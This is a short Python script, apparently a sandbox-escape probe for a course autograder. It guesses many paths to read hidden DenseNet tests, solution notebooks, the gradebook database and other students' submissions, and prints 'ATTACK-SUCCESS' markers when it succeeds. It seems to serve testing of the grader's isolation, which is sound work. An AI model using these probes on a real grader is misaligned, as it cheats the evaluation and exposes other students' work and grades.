"""Read the hidden tests, the solutions, the gradebook and other submissions by relative and guessed paths.

Tries paths relative to the working directory and to the grader package
(whose location reveals the project root), absolute guesses, and other
students' folders next to this one.
"""
import os
from pathlib import Path

import grader

root = Path(grader.__file__).resolve().parent.parent
guesses = [root / "autograde_tests" / "test_densenet.py", root / "solutions" / "densenet" / "densenet.ipynb",
           root / "grades" / "gradebook.db", Path(os.environ.get("CNN_KIT_ROOT", "/nonexistent")) / "autograde_tests"]
for prefix in ["", "../", "../../", "../../../", "../../../../"]:
    for rel in ["autograde_tests/test_densenet.py", "solutions/densenet/densenet.ipynb", "grades/gradebook.db",
                "gradebook.db", "z_solution/densenet/densenet.ipynb", "submissions/z_solution/densenet/densenet.ipynb"]:
        guesses.append(Path(prefix + rel))
for path in guesses:
    try:
        with open(path, "rb") as handle:
            print("ATTACK-SUCCESS: read", path, handle.read(40))
    except OSError:
        pass
secret_names = {"autograde_tests", "solutions", "grades", "submissions", "gradebook.db", "test_densenet.py",
                "densenet.ipynb", "z_solution", "z_stub", "h_partial"}
for directory in [root, root / "autograde_tests", root / "solutions", Path(".."), Path("../.."), Path(".")]:
    try:
        names = set(os.listdir(directory))
        if names & secret_names:
            print("ATTACK-SUCCESS: listed", directory, sorted(names & secret_names))
    except OSError:
        pass
print("ATTACK-DONE")
